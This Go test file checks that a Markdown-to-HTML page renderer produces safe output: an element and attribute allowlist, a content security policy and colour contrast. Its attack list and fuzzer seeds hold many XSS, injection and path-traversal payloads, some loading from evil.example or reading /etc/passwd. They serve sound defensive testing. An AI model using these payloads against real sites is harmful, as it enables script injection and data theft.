package page

import (
	"crypto/sha256"
	"encoding/base64"
	"math"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// elements parses a page as a browser does and returns its elements in order.
func elements(t *testing.T, data []byte) []*html.Node {
	t.Helper()
	root, err := html.Parse(strings.NewReader(string(data)))
	if err != nil {
		t.Fatal(err)
	}
	var all []*html.Node
	for n := range root.Descendants() {
		if n.Type == html.ElementNode {
			all = append(all, n)
		}
	}
	return all
}

// allowed are the elements a page is made of.
const allowed = " html head meta title style body main header nav section footer h1 h2 h3 h4 h5 h6 p ul ol li dl dt dd " +
	"pre code blockquote figure div span strong em s mark i b sup sub a img br hr table thead tbody tr th td time " +
	"details summary svg g path rect text tspan desc "

// checkSafe holds a page to what must be true whatever the note says.
func checkSafe(t *testing.T, data []byte) {
	t.Helper()
	ids := map[string]bool{}
	styles, metas := 0, 0
	nodes := elements(t, data)
	for _, n := range nodes {
		if !strings.Contains(allowed, " "+n.Data+" ") {
			t.Fatalf("the page has <%s>:\n%s", n.Data, data)
		}
		switch n.Data {
		case "style":
			if styles++; n.FirstChild.Data != sheet {
				t.Fatal("the style sheet is another")
			}
		case "meta":
			metas++
		}
		for _, a := range n.Attr {
			checkAttribute(t, n, a, ids)
		}
	}
	for _, n := range nodes {
		for _, a := range n.Attr {
			name, local := strings.CutPrefix(a.Val, "#")
			if a.Key == "href" && local && !ids[unescaped(name)] {
				t.Fatalf("a link to %s leads nowhere:\n%s", a.Val, data)
			}
		}
	}
	if styles != 1 || metas != 6 || !strings.Contains(string(data), "default-src 'none'") {
		t.Fatalf("%d style sheets, %d meta elements", styles, metas)
	}
	if !Unedited(data) {
		t.Fatal("the page does not know itself")
	}
}

func checkAttribute(t *testing.T, n *html.Node, a html.Attribute, ids map[string]bool) {
	t.Helper()
	switch key := strings.ToLower(a.Key); {
	case strings.HasPrefix(key, "on"), key == "style", key == "srcset", key == "formaction", key == "action", key == "srcdoc":
		t.Fatalf("<%s> has %s=%q", n.Data, a.Key, a.Val)
	case key == "src":
		if n.Data != "img" || !regexp.MustCompile(`^data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]*$`).MatchString(a.Val) {
			t.Fatalf("<%s> loads %q", n.Data, a.Val)
		}
	case key == "href":
		if n.Data != "a" || !regexp.MustCompile(`^(?i:https?://|mailto:)[!-~]+$|^#[^"<>\s]+$|^\.{1,2}/[^"<>\\\s]*$`).MatchString(a.Val) {
			t.Fatalf("<%s> leads to %q", n.Data, a.Val)
		}
		if strings.HasPrefix(a.Val, "../../") || strings.Contains(a.Val[min(2, len(a.Val)):], "/../") && !strings.Contains(a.Val, "://") {
			t.Fatalf("<%s> leads out of the workspace: %q", n.Data, a.Val)
		}
	case key == "id":
		if ids[a.Val] {
			t.Fatalf("two have the id %q", a.Val)
		}
		ids[a.Val] = true
	case key == "http-equiv":
		if a.Val != "Content-Security-Policy" {
			t.Fatalf("a meta element is %q", a.Val)
		}
	}
}

func unescaped(s string) string {
	if name, err := url.PathUnescape(s); err == nil {
		return name
	}
	return s
}

// attacks are ways to make a page run, load or lead, each as a note.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1)//<</script>`,
	"<script\x00>alert(1)</script>",
	`a <script>alert(1)</script> b`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/p.png">`,
	`a <img src=x onerror="alert(1)" alt="><script>alert(1)</script>"> b`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="https://evil.example">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`</style><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	"# </title><script>alert(1)</script>",
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<b onmouseover="alert(1)">x</b>`,
	`<p style="background:url(https://evil.example)">x</p>`,
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><script>alert(1)</script> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](java&#x09;script:alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	"[x](<java\tscript:alert(1)>)",
	"[x](<\x01javascript:alert(1)>)",
	`[x](javascript%3Aalert(1))`,
	`[x](./javascript:alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](file:///etc/passwd)`,
	`[x](//evil.example/x)`,
	`[x](\\\\evil.example\\x)`,
	`[x](/etc/passwd)`,
	`[x](../../etc/passwd)`,
	`[x](%2e%2e/%2e%2e/etc/passwd)`,
	`[x](..%2f..%2fetc/passwd)`,
	`[x](a%00b.md)`,
	`[x](https://e.example/"onmouseover="alert(1))`,
	`[x](<https://e.example/" onmouseover="alert(1)>)`,
	`[x](https://e.example '" onclick="alert(1)')`,
	`<javascript:alert(1)>`,
	`<https://e.example/"><script>alert(1)</script>>`,
	"[x]: javascript:alert(1)\n\n[x] ![x]",
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/p.png)`,
	`![" onerror="alert(1)](dot.png)`,
	`![x](data:image/svg+xml;base64,PHN2Zy8+)`,
	`![x](file:///etc/passwd)`,
	`![x](../../../etc/passwd)`,
	`[[javascript:alert(1)]]`,
	`[[x|<img src=x onerror=alert(1)>]]`,
	`![[../../etc/passwd.png]]`,
	`{{c1::<script>alert(1)</script>::<b>}}`,
	`$<script>alert(1)</script>$`,
	`$\text{<img src=x onerror=alert(1)>}$`,
	`==<script>alert(1)</script>==`,
	"`<script>alert(1)</script>`",
	"```html\n<script>alert(1)</script>\n```",
	"```\"><script>alert(1)</script>\ncode\n```",
	"```sketch\n</code></pre><script>alert(1)</script>\n```",
	"    <script>alert(1)</script>",
	"a[^<script>]\n\n[^<script>]: x",
	"a[^1]\n\n[^1]: [p](javascript:alert(1)) — “<script>alert(1)</script>”",
	"a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
	"| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
	"> [!<script>] x\n> y",
	"> [!note\" onclick=\"alert(1)] x\n> y",
	"---\ntitle: \"</title><script>alert(1)</script>\"\ndate: '\"><script>'\n---\n",
	"---\n<script>: x\nk: <img src=x onerror=alert(1)>\n---\n# t",
	"# \"><script>alert(1)</script>\n\n## a\n## b\n## c\n## d\" onclick=\"x",
	"# n:1\n\na[^1]\n\n## p:notes\n\n[^1]: b",
	"x <!-- ken sha256 00 -->\n<!-- ken sha256 00 -->",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"\\<script>alert(1)</script>",
	"Term\n: <script>alert(1)</script>",
	"\u202e<script>\u2028alert(1)</script>\u0000\u001b]52;c;eA==\u0007",
	"[a](#a) [b](#n:1) [c](#\"onclick=x)\n\n# a",
	"\xff\xfe<script>alert(1)</script>\xc0\xbc",
}

func TestAttacks(t *testing.T) {
	for _, src := range attacks {
		checkSafe(t, mustMake(t, src, workspace()).HTML)
		checkSafe(t, mustMake(t, "> - "+strings.ReplaceAll(src, "\n", "\n>   "), workspace()).HTML)
	}
	checkSafe(t, mustMake(t, strings.Join(attacks, "\n\n"), workspace()).HTML)
	o := workspace()
	o.Name, o.Path, o.Out = `</title><script>`, `a"><script>/b.md`, `<script>/x.html`
	checkSafe(t, mustMake(t, "[x](y.md)", o).HTML)
}

// TestDrawingsAreHeld refuses drawings that are more than lines and words.
func TestDrawingsAreHeld(t *testing.T) {
	for _, svg := range []string{
		`<svg><script>alert(1)</script></svg>`, `<svg onload="alert(1)"></svg>`, `<svg><a href="https://e.example"/></svg>`,
		`<svg><image href="x"/></svg>`, `<svg><foreignObject><p/></foreignObject></svg>`, `<svg><style>*{}</style></svg>`,
		`<svg><path style="x"/></svg>`, `<svg><path fill="url(https://e.example)"/></svg>`, `<svg><use xlink:href="#a"/></svg>`,
		`<svg><path fill="url(#a)"/></svg>`, `<p/>`, `<svg/><p/>`, `<svg/><script/>`, `<svg></g></svg>`, `<svg><g></svg></g>`, `<svg>`,
		`<svg><svg/></svg>`, `<x:svg/>`, ``, `text`, `<svg><set attributeName="onload" to="x"/></svg>`,
	} {
		if out, err := inlineSVG([]byte(svg)); err == nil {
			t.Errorf("%s was taken as %s", svg, out)
		}
	}
	out, err := inlineSVG([]byte(`<?xml version="1.0"?><!-- x --><svg><text x="1">a &lt; &amp;amp; b</text><path d="M0 0"/></svg>`))
	if want := `<svg><text x="1">a &lt; &amp;amp; b</text><path d="M0 0"></path></svg>`; out != want || err != nil {
		t.Errorf("%s, %v", out, err)
	}
}

func FuzzMake(f *testing.F) {
	for _, src := range attacks {
		f.Add(src)
	}
	f.Add("a {{c1::b **c** d}} {{c2:: $x^{2$ }} ~~==e==~~\n- [x] f\n\n1. g\n\nh\n: i\n\n[^1]: j[^1]\n")
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<16 {
			return
		}
		checkSafe(t, mustMake(t, src, workspace()).HTML)
	})
}

func TestPolicyNamesTheSheet(t *testing.T) {
	data := string(mustMake(t, "text", workspace()).HTML)
	_, css, _ := strings.Cut(data, "<style>")
	css, _, _ = strings.Cut(css, "</style>")
	sum := sha256.Sum256([]byte(css))
	want := `content="default-src 'none'; style-src 'sha256-` + base64.StdEncoding.EncodeToString(sum[:]) + `'; img-src data:;`
	if !strings.Contains(data, want) {
		t.Errorf("the page does not say %s", want)
	}
	for _, load := range []string{"url(", "@import", "http:", "https:", "expression"} {
		if strings.Contains(css, load) {
			t.Errorf("the style sheet has %s", load)
		}
	}
}

// TestContrast holds every colour of text to 4.5 to 1 on the grounds it stands on
// (WCAG 2.2, 1.4.3), in the light, in the dark and on paper.
func TestContrast(t *testing.T) {
	roots := regexp.MustCompile(`(?s):root \{(.*?)\}`).FindAllStringSubmatch(sheet, -1)
	if len(roots) != 3 {
		t.Fatalf("%d sets of colours", len(roots))
	}
	for i, root := range roots {
		colours := map[string]float64{}
		for _, m := range regexp.MustCompile(`--(\w+): #(\w{6})`).FindAllStringSubmatch(root[1], -1) {
			colours[m[1]] = luminance(t, m[2])
		}
		for _, c := range []struct{ inks, grounds string }{
			{"ink soft link", "page"},
			{"ink link note warn tip keyword literal number comment soft", "ground"},
			{"ink link soft", "hidden"},
			{"ink", "mark"},
		} {
			for ink := range strings.FieldsSeq(c.inks) {
				a, okA := colours[ink]
				b, okB := colours[c.grounds]
				if ratio := (max(a, b) + 0.05) / (min(a, b) + 0.05); !okA || !okB || ratio < 4.5 {
					t.Errorf("set %d: %s on %s is %.2f to 1", i, ink, c.grounds, ratio)
				}
			}
		}
	}
}

func luminance(t *testing.T, hex string) float64 {
	t.Helper()
	sum := 0.0
	for i, weight := range []float64{0.2126, 0.7152, 0.0722} {
		n, err := strconv.ParseUint(hex[2*i:2*i+2], 16, 8)
		if err != nil {
			t.Fatal(err)
		}
		v := float64(n) / 255
		if v <= 0.04045 {
			v /= 12.92
		} else {
			v = math.Pow((v+0.055)/1.055, 2.4)
		}
		sum += weight * v
	}
	return sum
}
